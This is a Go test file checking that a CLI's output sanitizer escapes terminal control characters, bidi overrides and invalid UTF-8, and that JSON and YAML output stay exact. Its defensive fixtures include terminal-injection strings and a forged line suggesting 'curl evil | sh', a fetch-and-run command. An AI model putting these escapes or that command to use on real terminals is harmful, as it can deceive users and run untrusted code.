package output

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	yaml "go.yaml.in/yaml/v3"
)

func TestSanitize(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"plain", "arn:aws:iam::111122223333:role/dev", "arn:aws:iam::111122223333:role/dev"},
		{"unicode is kept", "日本語 café cafe\u0301 😀 👩\u200d💻", "日本語 café cafe\u0301 😀 👩\u200d💻"},
		{"tab and newline are kept", "a\tb\nc", "a\tb\nc"},
		{"empty", "", ""},
		{"colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"OSC window title", "\x1b]0;pwned\x07rest", `\x1b]0;pwned\x07rest`},
		{"carriage return forging a line", "denied\rhint: run curl evil | sh", `denied\rhint: run curl evil | sh`},
		{"NUL and backspace", "a\x00b\bc", `a\x00b\x08c`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"C1 CSI", "a\u009b31mb", `a\u009b31mb`},
		{"C1 NEL", "a\u0085b", `a\u0085b`},
		{"bidi override", "user\u202egnp.exe", `user\u202egnp.exe`},
		{"bidi isolates and marks", "\u2066\u2069\u200e\u200f\u061c", `\u2066\u2069\u200e\u200f\u061c`},
		{"line separators", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"BOM", "\ufeffvalue", `\ufeffvalue`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"replacement character itself is kept", "a\ufffdb", "a\ufffdb"},
		{"backslash is kept", `C:\path\x1b`, `C:\path\x1b`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := Sanitize(tt.in); got != tt.want {
				t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestSanitize_leavesNothingRaw: whatever the input, the output has no
// control character but tab and newline, and no bidi control.
func TestSanitize_leavesNothingRaw(t *testing.T) {
	t.Parallel()
	var all strings.Builder
	for r := rune(0); r < 0x3000; r++ {
		all.WriteRune(r)
	}
	all.WriteString("\ufeff\xff\xfe")
	for _, r := range Sanitize(all.String()) {
		if unsafeRune(r) || r == '\ufffd' {
			t.Fatalf("Sanitize left %U", r)
		}
	}
}

// hostile is a document with the strings a server (or a tag set by someone
// else) can send: escapes, a title-setting OSC, a forged line, DEL, C1, a
// BOM, bidi overrides.
var hostile = map[string]any{"accessEntry": map[string]any{
	"principalArn": "arn:aws:iam::111122223333:role/x",
	"username":     "\x1b]0;pwned\x07\x1b[2J",
	"tags": map[string]string{
		"del":  "a\x7fb",
		"c1":   "a\u009b31mb\u0085",
		"bom":  "\ufeffvalue",
		"bidi": "user\u202egnp.exe",
		"cr":   "ok\rhint: run curl evil | sh",
		"nul":  "a\x00b",
	},
}}

// TestPrint_hostileStrings: table and text escape what a terminal would
// act on; json and yaml keep every string exact (yaml never refuses one).
func TestPrint_hostileStrings(t *testing.T) {
	t.Parallel()
	res := Result{Doc: hostile, Table: Table{
		Header: []string{"user\x1b[8m", "tag"},
		Rows:   [][]string{{"\x1b]0;pwned\x07", "ok\rhint: x"}, {"a\x7fb\u009b", "\ufeff\u202e"}},
	}}
	for _, o := range []Options{
		{Format: TableFormat}, {Format: Text},
		{Format: TableFormat, Query: "accessEntry.tags"}, {Format: Text, Query: "accessEntry.[username, tags.cr, tags.c1]"},
	} {
		var buf bytes.Buffer
		if err := Print(&buf, o, res); err != nil {
			t.Fatalf("%+v: %v", o, err)
		}
		for _, r := range buf.String() {
			if unsafeRune(r) {
				t.Errorf("%+v: output holds %U raw: %q", o, r, buf.String())
			}
		}
		if !strings.Contains(buf.String(), `\x1b`) && !strings.Contains(buf.String(), `\r`) {
			t.Errorf("%+v: no visible escape in %q", o, buf.String())
		}
	}

	var want any
	b, _ := json.Marshal(hostile)
	_ = json.Unmarshal(b, &want)
	for _, f := range []Format{JSON, YAML} {
		var buf bytes.Buffer
		if err := Print(&buf, Options{Format: f}, res); err != nil {
			t.Fatalf("-o %s: %v", f, err)
		}
		var got any
		var err error
		if f == JSON {
			err = json.Unmarshal(buf.Bytes(), &got)
		} else {
			err = yaml.Unmarshal(buf.Bytes(), &got)
		}
		if err != nil {
			t.Fatalf("-o %s does not read back: %v\n%s", f, err, buf.String())
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("-o %s changed the data (-want +got):\n%s", f, diff)
		}
	}
}

// TestPrint_yamlKeepsKeyOrder: YAML keys come in the JSON document's order
// (the API's), not sorted.
func TestPrint_yamlKeepsKeyOrder(t *testing.T) {
	t.Parallel()
	doc := struct {
		Zeta  int               `json:"zeta"`
		Alpha []string          `json:"alpha"`
		Mid   map[string]string `json:"mid"`
		Empty struct{}          `json:"empty"`
		Null  *int              `json:"null"`
		Float float64           `json:"float"`
		Bool  bool              `json:"bool"`
		Yes   string            `json:"yes"`
	}{Zeta: 1, Alpha: []string{"b", "a"}, Mid: map[string]string{"y": "1", "x": "true"}, Float: 1.5, Bool: true, Yes: "y"}
	var buf bytes.Buffer
	if err := Print(&buf, Options{Format: YAML}, Result{Doc: doc}); err != nil {
		t.Fatal(err)
	}
	want := `zeta: 1
alpha:
- b
- a
mid:
  x: "true"
  "y": "1"
empty: {}
"null": null
float: 1.5
bool: true
"yes": "y"
`
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("yaml (-want +got):\n%s", diff)
	}
}
